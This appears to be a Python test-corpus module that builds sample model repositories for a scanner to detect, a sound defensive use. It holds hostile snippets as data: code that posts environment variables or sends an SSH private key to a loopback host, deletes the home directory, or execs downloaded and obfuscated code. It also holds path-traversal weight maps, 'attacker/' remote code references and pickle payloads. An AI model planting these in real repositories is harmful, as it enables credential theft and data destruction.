"""Model repositories whose code, references or templates run code."""

from __future__ import annotations

import base64
import importlib.util
import json
import marshal
from collections.abc import Iterator

from corpus.opcodes import payload
from corpus.sample import INCONCLUSIVE, Family, Sample
from corpus.torch_files import torch_of
from corpus.weights import TEMPLATES
from samples import safetensors_of, tensor, zip_of

WEIGHTS = safetensors_of({"w": tensor(0, 8)}, bytes(8))


CONFIG = {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8}


def text(of: object) -> bytes:
    """JSON as files have it."""
    return json.dumps(of, indent=2).encode()


def _compiled(source: str) -> bytes:
    """Bytecode as Python caches it."""
    code = marshal.dumps(compile(source, "m.py", "exec"))
    return importlib.util.MAGIC_NUMBER + bytes(12) + code


def _utf_7(text: str) -> str:
    """Every letter shifted, so that nothing can be read."""
    return f"+{base64.b64encode(text.encode('utf-16-be')).decode().rstrip('=')}-"


_SYSTEM = "import os\nos.system('true')\n"
CODE = {
    "system": _SYSTEM,
    "popen": "import subprocess\n\ndef f():\n    subprocess.Popen(['true'])\n\nf()\n",
    "in-init": "import os\nclass M:\n    def __init__(self):\n        os.popen('true')\n",
    "in-forward": "import torch, subprocess\nclass M(torch.nn.Module):\n    def forward(self, x):\n        subprocess.run(['true'])\n        return x\n",
    "aliased": "from os import system as run\nrun('true')\n",
    "dynamic-import": "m = __import__('o' + 's')\ngetattr(m, 'sys' + 'tem')('true')\n",
    "exec-base64": "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
    "exec-download": "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1:9/').read())\n",
    "marshal": "import marshal, types\ntypes.FunctionType(marshal.loads(b'N'), {})()\n",
    "ctypes": "import ctypes\nctypes.CDLL('./lib.so').run()\n",
    "environment": "import os, requests\nrequests.post('http://127.0.0.1:9/', data=dict(os.environ))\n",
    "reads-keys": "import socket\ns = socket.create_connection(('127.0.0.1', 9))\ns.send(open('/root/.ssh/id_rsa', 'rb').read())\n",
    "decorator": "import os\ndef d(f):\n    os.system('true')\n    return f\n@d\nclass M: pass\n",
    "default-argument": "import os\ndef f(x=os.system('true')): pass\n",
    "metaclass": "import os\nclass T(type):\n    def __new__(c, *a):\n        os.system('true')\n        return type.__new__(c, *a)\nclass M(metaclass=T): pass\n",
    "lambda": "import os\n(lambda: os.system('true'))()\n",
    "globals": "globals()['__builtins__']['eval']('1')\n",
    "importlib": "import importlib\nimportlib.import_module('os').system('true')\n",
    "utf-7": f"# -*- coding: utf-7 -*-\n{_utf_7(_SYSTEM)}\n",
    "shutil": "import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n",
}


def _code() -> Iterator[Sample]:
    made = Family("hf-repo", "auto_map code")
    for title, code in CODE.items():
        config = {
            **CONFIG,
            "auto_map": {"AutoModel": "modeling_x.M", "AutoConfig": "configuration_x.C"},
        }
        files = {
            "config.json": text(config),
            "modeling_x.py": code.encode(),
            "configuration_x.py": b"class C: pass\n",
            "model.safetensors": WEIGHTS,
        }
        yield made(f"code-{title}", "repository", files)
    bad = CODE["system"].encode()
    others = {
        "relative-import": {"config.json": text({**CONFIG, "auto_map": {"AutoModel": "modeling_x.M"}}),
            "modeling_x.py": b"from .inner import M\n", "inner.py": bad},
        "tokenizer": {"tokenizer_config.json": text({"auto_map": {"AutoTokenizer": ["tok.T", None]}}), "tok.py": bad},
        "processor": {"preprocessor_config.json": text({"auto_map": {"AutoProcessor": "proc.P"}}), "proc.py": bad},
        "custom-generate": {"config.json": text(CONFIG), "custom_generate/generate.py": bad},
        "custom-pipeline": {"model_index.json": text({"_class_name": ["pipeline", "P"]}), "pipeline.py": bad},
        "custom-pipelines-key": {"config.json": text({**CONFIG, "custom_pipelines": {"x": {"impl": "pipe.P", "pt": ["AutoModel"]}}}), "pipe.py": bad},
        "handler": {"config.json": text(CONFIG), "handler.py": bad},
        "modules-json": {"modules.json": text([{"idx": 0, "name": "0", "path": "", "type": "custom_st.M"}]), "custom_st.py": bad},
        "not-mapped": {"config.json": text(CONFIG), "setup.py": bad},
        "init": {"config.json": text(CONFIG), "__init__.py": bad},
        "compiled": {"config.json": text({**CONFIG, "auto_map": {"AutoModel": "m.M"}}), "m.pyc": _compiled(_SYSTEM)},
        "library": {"config.json": text(CONFIG), "ops.so": b"\x7fELF\2\1\1" + bytes(57)},
        "metric": {"metric.py": bad, "README.md": b"# metric\n"},
        "dataset-script": {"dataset.py": b"import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n    def _info(self):\n        os.system('true')\n"},
    }  # fmt: skip
    for title, files in others.items():
        yield made(f"in-{title}", "repository", files)


def _names() -> Iterator[Sample]:
    made = Family("hf-repo", "remote or outside references")
    shard = {"metadata": {}, "weight_map": {"w": "../../../etc/passwd"}}
    files = {
        "remote-auto-map": {"config.json": text({**CONFIG, "auto_map": {"AutoModel": "attacker/repository--modeling.M"}})},
        "remote-tokenizer": {"tokenizer_config.json": text({"auto_map": {"AutoTokenizer": ["attacker/r--tok.T", None]}})},
        "remote-pipeline": {"model_index.json": text({"_class_name": "DiffusionPipeline", "custom_pipeline": "attacker/pipeline"})},
        "remote-custom-generate": {"generation_config.json": text({"custom_generate": "attacker/generate", "trust_remote_code": True})},
        "weight-map-up": {"model.safetensors.index.json": text(shard), "config.json": text(CONFIG)},
        "weight-map-absolute": {"pytorch_model.bin.index.json": text({"weight_map": {"w": "/etc/passwd"}})},
        "weight-map-url": {"model.safetensors.index.json": text({"weight_map": {"w": "http://127.0.0.1:9/w"}})},
        "modules-json-os": {"modules.json": text([{"idx": 0, "name": "0", "path": "", "type": "os.system"}])},
        "modules-json-up": {"modules.json": text([{"idx": 0, "name": "0", "path": "../../x", "type": "sentence_transformers.models.Transformer"}])},
        "modules-json-code": {"modules.json": text([{"idx": 0, "name": "0", "path": "", "type": "subprocess.Popen"}])},
        "model-index-module": {"model_index.json": text({"_class_name": "X", "unet": ["os", "system"]})},
        "adapter-base": {"adapter_config.json": text({"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}})},
        "pickle-weights": {"config.json": text(CONFIG), "pytorch_model.bin": zip_of(torch_of(payload()))},
        "pickle-training-args": {"config.json": text(CONFIG), "model.safetensors": WEIGHTS, "training_args.bin": zip_of(torch_of(payload()))},
        "pickle-optimizer": {"config.json": text(CONFIG), "optimizer.pt": payload(), "model.safetensors": WEIGHTS},
        "pickle-git-object": {"config.json": text(CONFIG), ".cache/x.pkl": payload(4)},
        "pickle-tokenizer": {"tokenizer.pkl": payload(), "config.json": text(CONFIG)},
    }  # fmt: skip
    for title, content in files.items():
        yield made(f"names-{title}", "repository", content)
    deep = b'{"a":' * 60_000 + b"1" + b"}" * 60_000
    yield made("names-depth-bomb", "repository", {"config.json": deep}, verdict=INCONCLUSIVE)


def _templates() -> Iterator[Sample]:
    made = Family("hf-repo", "template injection")
    for title in (
        "cycler",
        "attr-filter",
        "concatenated",
        "escaped",
        "set-pieces",
        "map-attribute",
        "reversed",
    ):
        template = TEMPLATES[title]
        files = {
            "tokenizer_config.json": text({"chat_template": template}),
            "config.json": text(CONFIG),
        }
        yield made(f"template-{title}", "repository", files)
    bad = TEMPLATES["lipsum"]
    yield made(
        "template-list",
        "repository",
        {
            "tokenizer_config.json": text(
                {
                    "chat_template": [
                        {"name": "default", "template": "{{ 1 }}"},
                        {"name": "tool_use", "template": bad},
                    ]
                }
            )
        },
    )
    yield made(
        "template-file",
        "repository",
        {"chat_template.jinja": bad.encode(), "config.json": text(CONFIG)},
    )
    yield made(
        "template-additional",
        "repository",
        {"additional_chat_templates/rag.jinja": bad.encode()},
    )
    yield made(
        "template-json-file", "repository", {"chat_template.json": text({"chat_template": bad})}
    )
    yield made(
        "template-processor",
        "repository",
        {"processor_config.json": text({"chat_template": bad})},
    )
    yield made("template-alone", "prompt.j2", bad.encode())


def samples() -> Iterator[Sample]:
    """All samples of this module."""
    yield from _code()
    yield from _names()
    yield from _templates()
